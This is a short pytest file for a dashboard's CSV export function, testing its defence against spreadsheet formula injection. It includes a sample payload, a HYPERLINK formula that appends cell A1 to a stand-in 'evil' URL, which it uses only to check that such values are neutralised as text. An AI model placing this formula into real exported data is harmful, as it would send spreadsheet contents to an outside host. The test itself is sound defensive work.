"""Tables as CSV hold no formula, whatever users call their sessions."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from djinn_lab.dashboard.csv_text import csv_text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_compute_is_shown_as_text(start: str) -> None:
    text = csv_text(("name",), [(f'{start}HYPERLINK("http://evil/?"&A1)',)])
    assert next(csv.DictReader(StringIO(text, newline="")))["name"].startswith(f"'{start}HYPERLINK")


def test_numbers_and_names_stay_as_they_are() -> None:
    text = csv_text(("a", "b", "c", "d"), [(-1.5, "ann", None, True)])
    assert text.splitlines() == ["a,b,c,d", "-1.5,ann,,True"]
